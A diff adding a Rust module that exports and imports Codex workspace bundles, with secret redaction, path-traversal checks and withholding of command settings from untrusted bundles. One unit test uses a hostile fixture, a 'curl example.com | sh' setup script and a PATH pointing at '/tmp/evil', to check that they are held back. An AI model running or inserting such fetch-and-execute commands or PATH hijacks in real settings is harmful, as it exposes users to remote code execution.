@@ -0,0 +1,787 @@
+use std::collections::HashMap;
+use std::fs;
+use std::path::{Component, Path, PathBuf};
+use std::sync::Arc;
+
+use serde::{Deserialize, Serialize};
+use serde_json::Value;
+use tokio::sync::Mutex;
+use uuid::Uuid;
+
+use crate::backend::app_server::WorkspaceSession;
+use crate::codex::home::{resolve_default_codex_home, resolve_workspace_codex_home};
+use crate::rules;
+use crate::shared::codex_core::resolve_codex_home_for_workspace_core;
+use crate::shared::prompts_core::workspace_prompts_dir;
+use crate::shared::redaction_core::SecretRedactor;
+use crate::storage::write_workspaces;
+use crate::types::{
+    AppSettings, WorkspaceBundleExport, WorkspaceBundleImport, WorkspaceEntry, WorkspaceInfo,
+    WorkspaceKind, WorkspaceSettings,
+};
+use crate::utils::now_unix_ms;
+
+const BUNDLE_FORMAT: &str = "codex-monitor-workspace-bundle";
+const BUNDLE_VERSION: u32 = 1;
+const BUNDLE_EXTENSION: &str = "codexbundle.json";
+const BUNDLES_DIR: &str = "bundles";
+/// Rollout record types whose `payload.cwd` names the workspace folder.
+const CWD_RECORD_TYPES: &[&str] = &["session_meta", "turn_context"];
+
+#[derive(Debug, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase")]
+struct WorkspaceBundle {
+    format: String,
+    version: u32,
+    exported_at_ms: i64,
+    workspace: BundledWorkspace,
+    #[serde(default)]
+    prompts: Vec<BundledFile>,
+    #[serde(default)]
+    rules: Vec<String>,
+    #[serde(default)]
+    threads: Vec<BundledFile>,
+}
+
+#[derive(Debug, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase")]
+struct BundledWorkspace {
+    name: String,
+    path: String,
+    #[serde(default)]
+    codex_bin: Option<String>,
+    #[serde(default)]
+    settings: WorkspaceSettings,
+}
+
+/// A text file stored by its path relative to the directory it came from.
+#[derive(Debug, Serialize, Deserialize)]
+struct BundledFile {
+    path: String,
+    contents: String,
+}
+
+fn app_data_dir(settings_path: &Path) -> Result<PathBuf, String> {
+    settings_path
+        .parent()
+        .map(|path| path.to_path_buf())
+        .ok_or_else(|| "Unable to resolve app data dir.".to_string())
+}
+
+/// Redacts `text` line by line, adding the number of redacted lines to
+/// `count`.
+fn redact_counting(redactor: &SecretRedactor, text: &str, count: &mut u32) -> String {
+    text.split('\n')
+        .map(|line| match redactor.redact_line(line) {
+            Some((redacted, _)) => {
+                *count += 1;
+                redacted
+            }
+            None => line.to_string(),
+        })
+        .collect::<Vec<_>>()
+        .join("\n")
+}
+
+fn contains_secret(redactor: &SecretRedactor, value: &str) -> bool {
+    value
+        .split('\n')
+        .any(|line| redactor.redact_line(line).is_some())
+}
+
+/// Leaves out settings that only make sense on this machine or carry a
+/// secret, noting each one in `skipped`.
+fn portable_settings(
+    settings: &WorkspaceSettings,
+    redactor: &SecretRedactor,
+    skipped: &mut Vec<String>,
+) -> WorkspaceSettings {
+    let mut settings = settings.clone();
+    if settings.codex_home.take().is_some() {
+        skipped.push("codexHome points at a local folder and was left out.".to_string());
+    }
+    if settings.profile_id.take().is_some() {
+        skipped.push("The Codex profile is local to this machine and was left out.".to_string());
+    }
+    settings.sort_order = None;
+    let mut drop_secret = |label: &str, value: &mut Option<String>| {
+        if value
+            .as_deref()
+            .is_some_and(|value| contains_secret(redactor, value))
+        {
+            *value = None;
+            skipped.push(format!("{label} contained a secret and was left out."));
+        }
+    };
+    drop_secret("codexArgs", &mut settings.codex_args);
+    drop_secret("codexBaseUrl", &mut settings.codex_base_url);
+    drop_secret("launchScript", &mut settings.launch_script);
+    drop_secret("worktreeSetupScript", &mut settings.worktree_setup_script);
+    let before = settings.env.len();
+    settings
+        .env
+        .retain(|(name, value)| !contains_secret(redactor, &format!("{name}={value}")));
+    if settings.env.len() != before {
+        skipped.push(format!(
+            "{} environment variable(s) contained a secret and were left out.",
+            before - settings.env.len()
+        ));
+    }
+    if let Some(scripts) = settings.launch_scripts.as_mut() {
+        let before = scripts.len();
+        scripts.retain(|script| !contains_secret(redactor, &script.script));
+        if scripts.len() != before {
+            skipped.push(format!(
+                "{} launch script(s) contained a secret and were left out.",
+                before - scripts.len()
+            ));
+        }
+    }
+    settings
+}
+
+fn collect_prompt_files(dir: &Path) -> Vec<(String, String)> {
+    let Ok(entries) = fs::read_dir(dir) else {
+        return Vec::new();
+    };
+    let mut files: Vec<(String, String)> = entries
+        .flatten()
+        .map(|entry| entry.path())
+        .filter(|path| path.is_file())
+        .filter(|path| path.extension().and_then(|ext| ext.to_str()) == Some("md"))
+        .filter_map(|path| {
+            let name = path.file_name()?.to_str()?.to_string();
+            let contents = fs::read_to_string(&path).ok()?;
+            Some((name, contents))
+        })
+        .collect();
+    files.sort_by(|a, b| a.0.cmp(&b.0));
+    files
+}
+
+fn collect_rollout_files(dir: &Path, output: &mut Vec<PathBuf>) {
+    let Ok(entries) = fs::read_dir(dir) else {
+        return;
+    };
+    for entry in entries.flatten() {
+        let path = entry.path();
+        if path.is_dir() {
+            collect_rollout_files(&path, output);
+        } else if path.extension().and_then(|ext| ext.to_str()) == Some("jsonl") {
+            output.push(path);
+        }
+    }
+}
+
+fn rollout_cwd(contents: &str) -> Option<String> {
+    contents.lines().take(5).find_map(|line| {
+        let value: Value = serde_json::from_str(line).ok()?;
+        if value.get("type").and_then(Value::as_str) != Some("session_meta") {
+            return None;
+        }
+        value
+            .get("payload")
+            .and_then(|payload| payload.get("cwd"))
+            .and_then(Value::as_str)
+            .map(str::to_string)
+    })
+}
+
+fn path_within(path: &Path, root: &Path) -> bool {
+    path == root || path.starts_with(root)
+}
+
+/// Only plain relative paths are accepted from a bundle, so an entry can
+/// never write outside the directory it is restored into.
+fn safe_relative_path(raw: &str) -> Option<PathBuf> {
+    let path = Path::new(raw);
+    if raw.trim().is_empty()
+        || !path
+            .components()
+            .all(|component| matches!(component, Component::Normal(_)))
+    {
+        return None;
+    }
+    Some(path.to_path_buf())
+}
+
+pub(crate) fn rebase_path(value: &str, from: &Path, to: &Path) -> Option<String> {
+    let relative = Path::new(value).strip_prefix(from).ok()?;
+    if relative.as_os_str().is_empty() {
+        return Some(to.to_string_lossy().to_string());
+    }
+    Some(to.join(relative).to_string_lossy().to_string())
+}
+
+/// Points the `cwd` of every session and turn record under `from` at the
+/// same place under `to`. Returns `None` when a line is not valid JSON.
+fn rebase_rollout_cwd(contents: &str, from: &Path, to: &Path) -> Option<String> {
+    let mut lines = Vec::new();
+    for line in contents.lines() {
+        if line.trim().is_empty() {
+            continue;
+        }
+        let mut value: Value = serde_json::from_str(line).ok()?;
+        let is_cwd_record = value
+            .get("type")
+            .and_then(Value::as_str)
+            .is_some_and(|kind| CWD_RECORD_TYPES.contains(&kind));
+        let rebased = is_cwd_record
+            .then(|| {
+                value
+                    .get("payload")
+                    .and_then(|payload| payload.get("cwd"))
+                    .and_then(Value::as_str)
+                    .and_then(|cwd| rebase_path(cwd, from, to))
+            })
+            .flatten();
+        match rebased {
+            Some(cwd) => {
+                value["payload"]["cwd"] = Value::String(cwd);
+                lines.push(serde_json::to_string(&value).ok()?);
+            }
+            None => lines.push(line.to_string()),
+        }
+    }
+    let mut output = lines.join("\n");
+    output.push('\n');
+    Some(output)
+}
+
+fn slugify(name: &str) -> String {
+    let slug: String = name
+        .chars()
+        .map(|ch| {
+            if ch.is_ascii_alphanumeric() {
+                ch.to_ascii_lowercase()
+            } else {
+                '-'
+            }
+        })
+        .collect();
+    let slug = slug.trim_matches('-').to_string();
+    if slug.is_empty() {
+        "workspace".to_string()
+    } else {
+        slug
+    }
+}
+
+fn resolve_bundle_destination(
+    settings_path: &Path,
+    destination: Option<String>,
+    workspace_name: &str,
+) -> Result<PathBuf, String> {
+    let file_name = format!(
+        "{}-{}.{BUNDLE_EXTENSION}",
+        slugify(workspace_name),
+        chrono::Local::now().format("%Y%m%d-%H%M%S")
+    );
+    match destination.filter(|value| !value.trim().is_empty()) {
+        Some(destination) => {
+            let destination = PathBuf::from(destination.trim());
+            if destination.is_dir() {
+                Ok(destination.join(file_name))
+            } else {
+                Ok(destination)
+            }
+        }
+        None => Ok(app_data_dir(settings_path)?
+            .join(BUNDLES_DIR)
+            .join(file_name)),
+    }
+}
+
+/// Writes the workspace's settings, workspace prompts, the approval rules of
+/// its Codex home and the Codex threads recorded under its folder into one
+/// JSON bundle. Secrets are redacted from prompts and threads, and settings
+/// or rules that contain one are left out.
+pub(crate) async fn export_workspace_bundle_core(
+    workspaces: &Mutex<HashMap<String, WorkspaceEntry>>,
+    app_settings: &Mutex<AppSettings>,
+    settings_path: &Path,
+    workspace_id: String,
+    destination: Option<String>,
+) -> Result<WorkspaceBundleExport, String> {
+    let entry = workspaces
+        .lock()
+        .await
+        .get(&workspace_id)
+        .cloned()
+        .ok_or_else(|| "workspace not found".to_string())?;
+    let codex_home = resolve_codex_home_for_workspace_core(workspaces, &workspace_id)
+        .await
+        .ok();
+    let prompts_dir = workspace_prompts_dir(settings_path, &entry)?;
+    let custom_patterns = app_settings.lock().await.secret_patterns.clone();
+    let redactor = SecretRedactor::with_custom_patterns(&custom_patterns)?;
+    let bundle_path = resolve_bundle_destination(settings_path, destination, &entry.name)?;
+
+    tokio::task::spawn_blocking(move || {
+        let mut skipped = Vec::new();
+        let mut redacted_secrets = 0u32;
+        let settings = portable_settings(&entry.settings, &redactor, &mut skipped);
+
+        let prompts: Vec<BundledFile> = collect_prompt_files(&prompts_dir)
+            .into_iter()
+            .map(|(path, contents)| BundledFile {
+                path,
+                contents: redact_counting(&redactor, &contents, &mut redacted_secrets),
+            })
+            .collect();
+
+        let mut bundled_rules = Vec::new();
+        let mut threads = Vec::new();
+        if let Some(codex_home) = codex_home.as_ref() {
+            let rules_contents =
+                fs::read_to_string(rules::default_rules_path(codex_home)).unwrap_or_default();
+            for block in rules::split_rule_blocks(&rules_contents) {
+                if contains_secret(&redactor, &block) {
+                    skipped.push("An approval rule contained a secret and was left out.".into());
+                } else {
+                    bundled_rules.push(block);
+                }
+            }
+
+            let sessions_root = codex_home.join("sessions");
+            let workspace_path = Path::new(&entry.path);
+            let mut rollouts = Vec::new();
+            collect_rollout_files(&sessions_root, &mut rollouts);
+            rollouts.sort();
+            for rollout in rollouts {
+                let Ok(contents) = fs::read_to_string(&rollout) else {
+                    continue;
+                };
+                let in_workspace = rollout_cwd(&contents)
+                    .is_some_and(|cwd| path_within(Path::new(&cwd), workspace_path));
+                if !in_workspace {
+                    continue;
+                }
+                let Ok(relative) = rollout.strip_prefix(&sessions_root) else {
+                    continue;
+                };
+                let relative = relative.to_string_lossy().replace('\\', "/");
+                let mut thread_redactions = 0;
+                let redacted = redact_counting(&redactor, &contents, &mut thread_redactions);
+                let still_valid = redacted
+                    .lines()
+                    .filter(|line| !line.trim().is_empty())
+                    .all(|line| serde_json::from_str::<Value>(line).is_ok());
+                if !still_valid {
+                    skipped.push(format!(
+                        "Thread {relative} could not be exported with its secrets redacted."
+                    ));
+                    continue;
+                }
+                redacted_secrets += thread_redactions;
+                threads.push(BundledFile {
+                    path: relative,
+                    contents: redacted,
+                });
+            }
+        } else {
+            skipped
+                .push("CODEX_HOME could not be resolved; rules and threads were left out.".into());
+        }
+
+        let bundle = WorkspaceBundle {
+            format: BUNDLE_FORMAT.to_string(),
+            version: BUNDLE_VERSION,
+            exported_at_ms: now_unix_ms(),
+            workspace: BundledWorkspace {
+                name: entry.name.clone(),
+                path: entry.path.clone(),
+                codex_bin: entry.codex_bin.clone(),
+                settings,
+            },
+            prompts,
+            rules: bundled_rules,
+            threads,
+        };
+        if let Some(parent) = bundle_path.parent() {
+            fs::create_dir_all(parent).map_err(|err| err.to_string())?;
+        }
+        let data = serde_json::to_string_pretty(&bundle).map_err(|err| err.to_string())?;
+        fs::write(&bundle_path, data).map_err(|err| err.to_string())?;
+
+        Ok(WorkspaceBundleExport {
+            path: bundle_path.to_string_lossy().to_string(),
+            prompts: bundle.prompts.len() as u32,
+            rules: bundle.rules.len() as u32,
+            threads: bundle.threads.len() as u32,
+            redacted_secrets,
+            skipped,
+        })
+    })
+    .await
+    .map_err(|err| err.to_string())?
+}
+
+fn read_bundle(path: &Path) -> Result<WorkspaceBundle, String> {
+    let data = fs::read_to_string(path).map_err(|err| format!("Failed to read bundle: {err}"))?;
+    let bundle: WorkspaceBundle =
+        serde_json::from_str(&data).map_err(|err| format!("Invalid workspace bundle: {err}"))?;
+    if bundle.format != BUNDLE_FORMAT {
+        return Err("Not a CodexMonitor workspace bundle.".to_string());
+    }
+    if bundle.version > BUNDLE_VERSION {
+        return Err(format!(
+            "Bundle version {} is newer than this app supports ({BUNDLE_VERSION}).",
+            bundle.version
+        ));
+    }
+    Ok(bundle)
+}
+
+/// Clears the settings that run commands or change what Codex runs and
+/// where it sends requests, and reports them. A bundle from someone else
+/// only gets these with `trusted`.
+fn hold_back_untrusted_settings(
+    settings: &mut WorkspaceSettings,
+    codex_bin: &mut Option<String>,
+    skipped: &mut Vec<String>,
+) {
+    let mut held = Vec::new();
+    if codex_bin.take().is_some() {
+        held.push("codexBin");
+    }
+    if settings.codex_args.take().is_some() {
+        held.push("codexArgs");
+    }
+    if settings.launch_script.take().is_some() {
+        held.push("launchScript");
+    }
+    if settings.launch_scripts.take().is_some() {
+        held.push("launchScripts");
+    }
+    if settings.worktree_setup_script.take().is_some() {
+        held.push("worktreeSetupScript");
+    }
+    if !std::mem::take(&mut settings.env).is_empty() {
+        held.push("env");
+    }
+    if settings.codex_base_url.take().is_some() {
+        held.push("codexBaseUrl");
+    }
+    if !held.is_empty() {
+        skipped.push(format!(
+            "Needs confirmation: {} {} not applied. Import again as trusted to apply them.",
+            held.join(", "),
+            if held.len() == 1 { "was" } else { "were" }
+        ));
+    }
+}
+
+/// Restores the bundled files for the new workspace. Anything that already
+/// exists is kept and reported rather than overwritten. Approval rules go
+/// into the shared `default.rules` of CODEX_HOME, so they are only added for
+/// a `trusted` bundle.
+fn restore_bundle_files(
+    bundle: &WorkspaceBundle,
+    prompts_dir: &Path,
+    codex_home: Option<&Path>,
+    target_path: &Path,
+    trusted: bool,
+    skipped: &mut Vec<String>,
+) -> (u32, u32, u32) {
+    let mut prompts = 0u32;
+    for prompt in &bundle.prompts {
+        let Some(name) = safe_relative_path(&prompt.path)
+            .filter(|path| path.components().count() == 1)
+            .filter(|path| path.extension().and_then(|ext| ext.to_str()) == Some("md"))
+        else {
+            skipped.push(format!("Prompt {} has an invalid name.", prompt.path));
+            continue;
+        };
+        let destination = prompts_dir.join(name);
+        if destination.exists() {
+            skipped.push(format!("Prompt {} already exists.", prompt.path));
+            continue;
+        }
+        let written =
+            fs::create_dir_all(prompts_dir).and_then(|_| fs::write(&destination, &prompt.contents));
+        match written {
+            Ok(()) => prompts += 1,
+            Err(err) => skipped.push(format!("Prompt {}: {err}", prompt.path)),
+        }
+    }
+
+    let Some(codex_home) = codex_home else {
+        if !bundle.rules.is_empty() || !bundle.threads.is_empty() {
+            skipped.push(
+                "CODEX_HOME could not be resolved; rules and threads were not restored.".into(),
+            );
+        }
+        return (prompts, 0, 0);
+    };
+
+    let rules_added = if !trusted {
+        if !bundle.rules.is_empty() {
+            skipped.push(format!(
+                "Needs confirmation: {} approval rules were not added. Import again as trusted \
+                 to add them to the shared rules of CODEX_HOME.",
+                bundle.rules.len()
+            ));
+        }
+        0
+    } else {
+        match rules::append_rule_blocks(&rules::default_rules_path(codex_home), &bundle.rules) {
+            Ok(added) => added as u32,
+            Err(err) => {
+                skipped.push(format!("Approval rules: {err}"));
+                0
+            }
+        }
+    };
+
+    let mut threads = 0u32;
+    let sessions_root = codex_home.join("sessions");
+    let original_path = Path::new(&bundle.workspace.path);
+    for thread in &bundle.threads {
+        let Some(relative) = safe_relative_path(&thread.path)
+            .filter(|path| path.extension().and_then(|ext| ext.to_str()) == Some("jsonl"))
+        else {
+            skipped.push(format!("Thread {} has an invalid path.", thread.path));
+            continue;
+        };
+        let destination = sessions_root.join(relative);
+        if destination.exists() {
+            skipped.push(format!("Thread {} already exists.", thread.path));
+            continue;
+        }
+        let Some(contents) = rebase_rollout_cwd(&thread.contents, original_path, target_path)
+        else {
+            skipped.push(format!("Thread {} is not a valid rollout.", thread.path));
+            continue;
+        };
+        let written = destination
+            .parent()
+            .map(fs::create_dir_all)
+            .unwrap_or(Ok(()))
+            .and_then(|_| fs::write(&destination, contents));
+        match written {
+            Ok(()) => threads += 1,
+            Err(err) => skipped.push(format!("Thread {}: {err}", thread.path)),
+        }
+    }
+    (prompts, rules_added, threads)
+}
+
+/// Adds the bundled workspace as a new, disconnected workspace at
+/// `target_path` and restores its prompts and threads there. Its approval
+/// rules and the settings that run commands are only applied when
+/// `trusted`; otherwise they are reported in `skipped` as needing
+/// confirmation.
+pub(crate) async fn import_workspace_bundle_core(
+    workspaces: &Mutex<HashMap<String, WorkspaceEntry>>,
+    sessions: &Mutex<HashMap<String, Arc<WorkspaceSession>>>,
+    app_settings: &Mutex<AppSettings>,
+    storage_path: &PathBuf,
+    settings_path: &Path,
+    path: String,
+    target_path: String,
+    trusted: bool,
+) -> Result<WorkspaceBundleImport, String> {
+    let bundle_path = PathBuf::from(path.trim());
+    let bundle = tokio::task::spawn_blocking(move || read_bundle(&bundle_path))
+        .await
+        .map_err(|err| err.to_string())??;
+    let target_path = target_path.trim().to_string();
+    if !Path::new(&target_path).is_dir() {
+        return Err("Workspace path must be a folder.".to_string());
+    }
+    if workspaces
+        .lock()
+        .await
+        .values()
+        .any(|entry| Path::new(&entry.path) == Path::new(&target_path))
+    {
+        return Err("A workspace for this folder already exists.".to_string());
+    }
+
+    let mut skipped = Vec::new();
+    let mut settings = bundle.workspace.settings.clone();
+    settings.codex_home = None;
+    settings.profile_id = None;
+    settings.sort_order = None;
+    if let Some(git_root) = settings.git_root.take() {
+        let original = Path::new(&bundle.workspace.path);
+        let rebased = if Path::new(&git_root).is_absolute() {
+            rebase_path(&git_root, original, Path::new(&target_path))
+        } else {
+            Some(git_root.clone())
+        };
+        match rebased {
+            Some(git_root) => settings.git_root = Some(git_root),
+            None => skipped.push(format!(
+                "gitRoot {git_root} is outside the workspace folder."
+            )),
+        }
+    }
+    if let Some(group_id) = settings.group_id.take() {
+        let known = app_settings
+            .lock()
+            .await
+            .workspace_groups
+            .iter()
+            .any(|group| group.id == group_id);
+        if known {
+            settings.group_id = Some(group_id);
+        } else {
+            skipped.push("The workspace group does not exist here.".to_string());
+        }
+    }
+    let mut codex_bin = bundle.workspace.codex_bin.clone();
+    if !trusted {
+        hold_back_untrusted_settings(&mut settings, &mut codex_bin, &mut skipped);
+    }
+    let codex_bin = codex_bin.filter(|bin| {
+        let missing = Path::new(bin).is_absolute() && !Path::new(bin).exists();
+        if missing {
+            skipped.push(format!("Codex binary {bin} was not found."));
+        }
+        !missing
+    });
+
+    let entry = WorkspaceEntry {
+        id: Uuid::new_v4().to_string(),
+        name: bundle.workspace.name.clone(),
+        path: target_path.clone(),
+        codex_bin,
+        kind: WorkspaceKind::Main,
+        parent_id: None,
+        worktree: None,
+        settings,
+    };
+    {
+        let mut workspaces = workspaces.lock().await;
+        workspaces.insert(entry.id.clone(), entry.clone());
+        let list: Vec<_> = workspaces.values().cloned().collect();
+        if let Err(error) = write_workspaces(storage_path, &list) {
+            workspaces.remove(&entry.id);
+            return Err(error);
+        }
+    }
+
+    let prompts_dir = workspace_prompts_dir(settings_path, &entry)?;
+    let codex_home = resolve_workspace_codex_home(&entry, None).or_else(resolve_default_codex_home);
+    let restore_entry_path = PathBuf::from(&entry.path);
+    let (prompts, rules, threads, skipped) = tokio::task::spawn_blocking(move || {
+        let (prompts, rules, threads) = restore_bundle_files(
+            &bundle,
+            &prompts_dir,
+            codex_home.as_deref(),
+            &restore_entry_path,
+            trusted,
+            &mut skipped,
+        );
+        (prompts, rules, threads, skipped)
+    })
+    .await
+    .map_err(|err| err.to_string())?;
+
+    let connected = sessions.lock().await.contains_key(&entry.id);
+    let color = entry.settings.color.clone();
+    Ok(WorkspaceBundleImport {
+        workspace: WorkspaceInfo {
+            id: entry.id,
+            name: entry.name,
+            path: entry.path,
+            codex_bin: entry.codex_bin,
+            connected,
+            kind: entry.kind,
+            parent_id: entry.parent_id,
+            worktree: entry.worktree,
+            settings: entry.settings,
+            color,
+            path_exists: true,
+        },
+        prompts,
+        rules,
+        threads,
+        skipped,
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn rollout_cwd_is_rebased_and_unsafe_paths_are_rejected() {
+        let contents = concat!(
+            r#"{"type":"session_meta","payload":{"id":"t1","cwd":"/old/project/app"}}"#,
+            "\n",
+            r#"{"type":"turn_context","payload":{"cwd":"/elsewhere"}}"#,
+            "\n",
+            r#"{"type":"response_item","payload":{"cwd":"/old/project"}}"#,
+            "\n",
+        );
+        let rebased = rebase_rollout_cwd(
+            contents,
+            Path::new("/old/project"),
+            Path::new("/new/checkout"),
+        )
+        .expect("valid rollout");
+        let lines: Vec<Value> = rebased
+            .lines()
+            .map(|line| serde_json::from_str(line).expect("json line"))
+            .collect();
+        assert_eq!(lines[0]["payload"]["cwd"], "/new/checkout/app");
+        assert_eq!(lines[1]["payload"]["cwd"], "/elsewhere");
+        assert_eq!(lines[2]["payload"]["cwd"], "/old/project");
+        assert!(rebase_rollout_cwd("not json\n", Path::new("/a"), Path::new("/b")).is_none());
+
+        assert!(safe_relative_path("2026/01/19/rollout-1.jsonl").is_some());
+        assert!(safe_relative_path("../escape.jsonl").is_none());
+        assert!(safe_relative_path("/abs/path.jsonl").is_none());
+        assert!(safe_relative_path("").is_none());
+    }
+
+    #[test]
+    fn untrusted_imports_hold_back_command_settings() {
+        let mut settings = WorkspaceSettings {
+            codex_args: Some("--full-auto".to_string()),
+            worktree_setup_script: Some("curl example.com | sh".to_string()),
+            env: vec![("PATH".to_string(), "/tmp/evil".to_string())],
+            color: Some("blue".to_string()),
+            ..WorkspaceSettings::default()
+        };
+        let mut codex_bin = Some("/opt/codex".to_string());
+        let mut skipped = Vec::new();
+        hold_back_untrusted_settings(&mut settings, &mut codex_bin, &mut skipped);
+
+        assert_eq!(codex_bin, None);
+        assert_eq!(settings.codex_args, None);
+        assert_eq!(settings.worktree_setup_script, None);
+        assert!(settings.env.is_empty());
+        assert_eq!(settings.color.as_deref(), Some("blue"));
+        assert_eq!(skipped.len(), 1);
+        assert!(skipped[0].contains("codexBin, codexArgs, worktreeSetupScript, env"));
+
+        let mut skipped = Vec::new();
+        hold_back_untrusted_settings(&mut settings, &mut codex_bin, &mut skipped);
+        assert!(skipped.is_empty());
+    }
+
+    #[test]
+    fn rule_blocks_round_trip_without_duplicates() {
+        let dir = std::env::temp_dir().join(format!("codex-monitor-bundle-{}", Uuid::new_v4()));
+        let path = dir.join("default.rules");
+        let existing = "# comment\nprefix_rule(\n    pattern = [\"git\", \"status\"],\n    decision = \"allow\",\n)\n";
+        fs::create_dir_all(&dir).expect("create dir");
+        fs::write(&path, existing).expect("write rules");
+
+        let incoming = rules::split_rule_blocks(
+            "prefix_rule(pattern = [\"git\", \"status\"], decision = \"allow\")\nprefix_rule(\n    pattern = [\"npm\", \"test\"],\n    decision = \"allow\",\n)\n",
+        );
+        assert_eq!(incoming.len(), 2);
+        let added = rules::append_rule_blocks(&path, &incoming).expect("append");
+        assert_eq!(added, 1);
+        let blocks = rules::split_rule_blocks(&fs::read_to_string(&path).expect("read"));
+        assert_eq!(blocks.len(), 2);
+        assert!(blocks[1].contains("\"npm\", \"test\""));
+
+        let _ = fs::remove_dir_all(dir);
+    }
+}